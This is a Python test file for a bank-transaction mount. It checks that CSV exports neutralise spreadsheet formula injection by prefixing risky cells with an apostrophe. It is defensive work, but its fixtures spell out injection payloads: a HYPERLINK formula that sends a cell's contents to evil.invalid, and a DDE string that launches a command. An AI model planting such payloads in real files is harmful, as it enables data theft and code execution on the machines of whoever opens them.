"""Formulas from strangers (README.md, "What the mount holds" and "Security"): whoever
pays the user chooses the payment's reference and their own name, and those reach the
CSVs' text cells. A text cell that a spreadsheet would read as a formula is shown with
a ' in front; ids, dates, times, amounts and currencies never are, a lone - or + stays
as it is, and every other format keeps the exact text.

The whole files are compared with tests/expected.py (which implements the rule again);
the cells a user would look at are spelled out here literally; and where LibreOffice is
installed (Debian package `libreoffice-calc-nogui`) it opens each CSV and must find no
formula in it.
"""
import csv
import io
import json
import os
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from html import unescape

import pytest

import expected as E
from conftest import ROOT, account_dir, read_csv

RULES = ROOT / "packaging" / "hledger" / "monzohfs.rules"
HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&B2,"refund")'
DDE = "=cmd|' /C calc'!A0"
MONTH = "2024-04"
# What a stranger can send, each in a text cell of its own; "guarded" says whether the
# CSVs show it with a ' in front.
SENT = {
    HYPERLINK: True, DDE: True, "-cmd|' /C calc'!A0": True, "@SUM(A1)": True,
    "+1+1": True, "-2+3": True, "+A1": True, "=": True,
    "\t=1+1": True, "\r=2+2": True, " =3+3": True,
    "+44 20 7946 0000": True, "-5% off": True,  # a spreadsheet may compute or reject them
    "-": False, "+": False, "'=1+1": False, "Rent flat 4B": False, "a=b": False,
}


def by_id(rows):
    return {r[0]: dict(zip(E.HEADER, r)) for r in rows[1:]}


def credit(bank, acc, created, amount, name, reference, notes, **fields):
    """A Faster Payment from a stranger: their name, their reference (the description)."""
    fields.setdefault("category", "income")
    return bank.add_transaction(acc, created=created, amount=amount, merchant=None,
                                scheme="payport_faster_payments",
                                counterparty={"name": name, "sort_code": "040004",
                                              "account_number": "12345678"},
                                description=reference, notes=notes, **fields)


@pytest.fixture
def hostile(bank, mounter):
    """Settled, pending and declined transactions carrying every text of SENT, and the
    mount that shows them: (mount path, account id, {label: transaction})."""
    acc = bank.main_account_id
    t = {}
    t["refund"] = credit(bank, acc, "2024-04-03T11:00:00Z", 1999, HYPERLINK, DDE, "@SUM(A1)")
    t["sums"] = credit(bank, acc, "2024-04-04T11:00:00Z", 500, "+1+1", "-2+3", "\t=1+1",
                       category="-custom", categories={"-custom": 300, "income": 200})
    t["blanks"] = credit(bank, acc, "2024-04-05T11:00:00Z", 250, "-", "+", "\r=2+2")
    t["phone"] = credit(bank, acc, "2024-04-06T11:00:00Z", 125, "=", "+44 20 7946 0000",
                        "-5% off")
    t["plain"] = credit(bank, acc, "2024-04-07T11:00:00Z", 100, " =3+3", "Rent flat 4B",
                        "'=1+1")
    t["pending"] = credit(bank, acc, "2024-04-08T11:00:00Z", 300, "+A1", "-cmd|' /C calc'!A0",
                          "a=b", settled="")
    shop = dict(bank.merchants["greenleaf"], id="merch_0000evil", name="@SUM(A1)",
                emoji="=", address=dict(bank.merchants["greenleaf"]["address"],
                                        short_formatted="-1 Evil Street"))
    t["declined"] = bank.add_transaction(acc, created="2024-04-09T11:00:00Z", amount=-4200,
                                         merchant=shop, notes=DDE,
                                         decline_reason="INSUFFICIENT_FUNDS")
    return mounter().path, acc, t


# --------------------------------------------------------------------------- the CSVs

def csv_files(mnt, acc):
    d = account_dir(mnt, acc)
    return {"transactions.csv": d / "transactions.csv", "pending.csv": d / "pending.csv",
            "declined.csv": d / "declined.csv", f"{MONTH}.csv": d / "transactions" / f"{MONTH}.csv"}


def test_every_csv_equals_the_expected_rows(bank, hostile):
    mnt, acc, _ = hostile
    exp = E.Expected(bank, acc)
    want = {"transactions.csv": exp.transactions_csv(), "pending.csv": exp.pending_csv(),
            "declined.csv": exp.declined_csv(), f"{MONTH}.csv": exp.month_csv(MONTH)}
    for name, path in csv_files(mnt, acc).items():
        assert read_csv(path) == want[name], f"{name} differs from the expected rows"


def test_the_strangers_text_shows_as_text(bank, hostile):
    mnt, acc, t = hostile
    files = {k: by_id(read_csv(p)) for k, p in csv_files(mnt, acc).items()}
    rows, month = files["transactions.csv"], files[f"{MONTH}.csv"]

    r = rows[t["refund"]["id"]]
    assert month[t["refund"]["id"]] == r
    assert (r["Name"], r["Description"], r["Notes and #tags"]) == \
        ("'" + HYPERLINK, "'" + DDE, "'@SUM(A1)")
    # The columns a spreadsheet computes with are as they always were.
    assert (r["Transaction ID"], r["Date"], r["Time"], r["Type"], r["Amount"], r["Currency"],
            r["Local amount"], r["Local currency"], r["Money Out"], r["Money In"],
            r["Balance currency"]) == \
        (t["refund"]["id"], "03/04/2024", "12:00:00", "Faster payment", "19.99", "GBP",
         "19.99", "GBP", "", "19.99", "GBP")

    r = rows[t["sums"]["id"]]
    assert (r["Name"], r["Description"], r["Notes and #tags"], r["Category"],
            r["Category split"]) == \
        ("'+1+1", "'-2+3", "'\t=1+1", "'-custom", "'-custom:3.00,Income:2.00")
    assert (r["Amount"], r["Money In"]) == ("5.00", "5.00")

    r = rows[t["blanks"]["id"]]
    assert (r["Name"], r["Description"], r["Notes and #tags"]) == ("-", "+", "'\r=2+2")
    r = rows[t["phone"]["id"]]
    assert (r["Name"], r["Description"], r["Notes and #tags"]) == \
        ("'=", "'+44 20 7946 0000", "'-5% off")
    r = rows[t["plain"]["id"]]
    assert (r["Name"], r["Description"], r["Notes and #tags"]) == \
        ("' =3+3", "Rent flat 4B", "'=1+1")

    r = files["pending.csv"][t["pending"]["id"]]
    assert (r["Name"], r["Description"], r["Notes and #tags"], r["Amount"]) == \
        ("'+A1", "'-cmd|' /C calc'!A0", "a=b", "3.00")
    r = files["declined.csv"][t["declined"]["id"]]
    assert (r["Name"], r["Emoji"], r["Address"], r["Notes and #tags"], r["Amount"],
            r["Money Out"]) == ("'@SUM(A1)", "'=", "'-1 Evil Street", "'" + DDE, "-42.00", "-42.00")

    # The bytes a spreadsheet reads: the ' inside the quotes.
    raw = (account_dir(mnt, acc) / "transactions.csv").read_bytes()
    assert b'"\'=HYPERLINK(""http://evil.invalid/?""&B2,""refund"")"' in raw
    assert b",'=cmd|' /C calc'!A0," in raw


def test_each_text_sent_is_shown_per_the_rule(bank, hostile):
    mnt, acc, t = hostile
    rows = {}
    for path in csv_files(mnt, acc).values():
        rows.update(by_id(read_csv(path)))
    seen = set()
    for x in t.values():
        r = rows[x["id"]]
        for col, sent in (("Name", E.name(x, [])), ("Description", x["description"]),
                          ("Notes and #tags", x["notes"])):
            if sent in SENT:
                seen.add(sent)
                want = "'" + sent if SENT[sent] else sent
                assert r[col] == want, f"{col} of {sent!r}: shown {r[col]!r}, want {want!r}"
    assert seen == set(SENT), f"not sent: {set(SENT) - seen}"


def test_no_text_cell_starts_a_formula(bank, hostile):
    """Past any blanks, no cell of any CSV begins with = + - or @, but a lone sign, an
    amount, or a column that a spreadsheet should compute with."""
    mnt, acc, _ = hostile
    numbers = {"Amount", "Local amount", "Money Out", "Money In", "Balance"}
    for name, path in csv_files(mnt, acc).items():
        for row in read_csv(path)[1:]:
            for col, cell in zip(E.HEADER, row):
                rest = cell.lstrip("".join(map(chr, range(1, 0x21))))
                if col in numbers:
                    assert re.fullmatch(r"(-?\d+(\.\d+)?)?", cell), f"{name} {col}: {cell!r}"
                elif rest[:1] in ("=", "+", "-", "@") and rest not in ("+", "-"):
                    pytest.fail(f"{name}: {row[0]} {col} {cell!r} starts a formula")


def test_hledger_imports_the_guarded_csv_with_the_projects_rules(bank, hostile, tmp_path):
    exe = shutil.which("hledger")
    if exe is None:
        pytest.skip("hledger is not installed (Debian package `hledger`)")
    mnt, acc, t = hostile
    env = dict(os.environ, LANG="C.UTF-8", LC_ALL="C.UTF-8")

    def hledger(*args, source=None, stdin=None):
        source = source or ("-f", str(account_dir(mnt, acc) / "transactions.csv"),
                            "--rules-file", str(RULES))
        p = subprocess.run([exe, *source, *args], input=stdin, env=env, cwd=tmp_path,
                           capture_output=True, text=True, timeout=120)
        assert p.returncode == 0, f"hledger {' '.join(args)}:\n{p.stderr}"
        return p.stdout

    exp = E.Expected(bank, acc)
    reg = list(csv.reader(io.StringIO(hledger("register", "^assets:monzo$", "-O", "csv"))))
    got = [(r[2], r[3]) for r in reg[1:]]
    assert [g[0] for g in got] == [x["id"] for x in exp.settled()]
    described = dict(got)
    assert described[t["refund"]["id"]] == f"'{HYPERLINK} | Faster payment"
    assert described[t["blanks"]["id"]] == "- | Faster payment"
    hledger("check", source=("-f", "-"), stdin=hledger("print"))


def calc_open(tmp_path, paths, options):
    """Each CSV as LibreOffice Calc reads it with the CSV filter options given:
    {name: ([formulas], [texts shown])}."""
    exe = shutil.which("soffice")
    if exe is None:
        pytest.skip("LibreOffice is not installed (Debian package `libreoffice-calc-nogui`)")
    work = tmp_path / "calc"
    shutil.rmtree(work, ignore_errors=True)
    work.mkdir()
    copies = []  # copies: LibreOffice writes lock files beside what it opens
    for i, (name, path) in enumerate(paths.items()):
        copies.append(work / f"{i}.csv")
        copies[-1].write_bytes(path.read_bytes())
    p = subprocess.run([exe, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
                        f"--infilter=Text - txt - csv (StarCalc):{options}",
                        "--convert-to", "fods", "--outdir", str(work / "out"), *map(str, copies)],
                       capture_output=True, text=True, timeout=300)
    assert p.returncode == 0, p.stderr
    table = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    para = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}p"
    got = {}
    for i, name in enumerate(paths):
        out = work / "out" / f"{i}.fods"
        assert out.exists(), f"LibreOffice did not open {name}: {p.stderr}"
        formulas, texts = [], []
        for cell in ET.parse(out).getroot().iter(f"{table}table-cell"):
            if cell.get(f"{table}formula"):
                formulas.append(cell.get(f"{table}formula"))
            texts.append("\n".join("".join(q.itertext()) for q in cell.iter(para)))
        got[name] = formulas, texts
    return got


# The CSV filter's options: comma, double quote, UTF-8, from line 1 (formulas are
# evaluated, as when the file is double-clicked); then the same with "Trim spaces"
# and "Evaluate formulas" set, as the import dialog offers them.
LO_IMPORTS = ("44,34,76,1", "44,34,76,1,,1033,false,false,false,false,true,-1,true")


@pytest.mark.parametrize("options", LO_IMPORTS, ids=["default", "trim-spaces"])
def test_libreoffice_finds_no_formula(bank, hostile, tmp_path, options):
    mnt, acc, t = hostile
    got = calc_open(tmp_path, csv_files(mnt, acc), options)
    for name, (formulas, _) in got.items():
        assert not formulas, f"LibreOffice evaluates {formulas} in {name}"
    texts = set(got["transactions.csv"][1])
    assert {"'" + HYPERLINK, "'" + DDE, "-"} <= texts


# --------------------------------------------------------------------------- the other formats

def test_only_the_csvs_add_the_quote(bank, hostile):
    """The same payments: text in the CSVs, exactly as sent in every other format."""
    mnt, acc, t = hostile
    d = account_dir(mnt, acc)
    ids = {x["id"]: x for x in t.values()}
    shown = by_id(read_csv(d / "transactions.csv"))[t["refund"]["id"]]
    assert (shown["Name"], shown["Description"]) == ("'" + HYPERLINK, "'" + DDE)

    # JSON: as the bank sent it.
    for path in (d / "transactions.json", d / "transactions" / f"{MONTH}.json"):
        got = {x["id"]: x for x in json.loads(path.read_bytes())["transactions"]}
        for i, x in ids.items():
            assert got[i] == x, f"{path.name}: {i}"

    # TSV: every text, unescaped, exactly.
    esc = {"\\\\": "\\", "\\t": "\t", "\\r": "\r", "\\n": "\n"}
    for path in (d / "transactions.tsv", mnt / "transactions.tsv"):
        lines = path.read_bytes().decode("utf-8").split("\n")
        head = lines[0].split("\t")
        rows = {r[1]: dict(zip(head, r)) for r in (line.split("\t") for line in lines[1:-1])}
        for i, x in ids.items():
            r = {k: re.sub(r"\\.", lambda m: esc[m.group(0)], v) for k, v in rows[i].items()}
            assert (r["name"], r["description"], r["notes"]) == \
                (E.name(x, []), x["description"], x["notes"]), f"{path}: {i}"

    # QIF and OFX: the payee and memo in their ASCII forms, no ' added.
    refund = t["refund"]
    qif = (d / "transactions.qif").read_text(encoding="ascii")
    rec = qif[qif.index(f"N{refund['id']}\n") - 200:qif.index(f"N{refund['id']}\n")]
    assert f"\nP{HYPERLINK}\nM{DDE}; @SUM(A1)\n" in rec
    ofx = (d / "transactions.ofx").read_text(encoding="ascii")
    block = ofx[ofx.index(f"<FITID>{refund['id']}"):]
    block = block[:block.index("</STMTTRN>")]
    name = unescape(re.search(r"<NAME>([^\r\n<]*)", block).group(1))
    memo = unescape(re.search(r"<MEMO>([^\r\n<]*)", block).group(1))
    assert HYPERLINK.startswith(name.rstrip(".")) and name.startswith("=HYPERLINK(")
    assert memo == f"{DDE}; @SUM(A1)"

    # Journal and beancount: the payee as sent.
    journal = (d / "transactions.journal").read_text(encoding="utf-8")
    assert f" * {HYPERLINK} | Faster payment  ; id:{refund['id']}\n" in journal
    assert f" * +1+1 | Faster payment  ; id:{t['sums']['id']}\n" in journal
    beancount = (d / "transactions.beancount").read_text(encoding="utf-8")
    assert '"=HYPERLINK(\\"http://evil.invalid/?\\"&B2,\\"refund\\")" "Faster payment"' in beancount
    assert '  notes: "@SUM(A1)"\n' in beancount
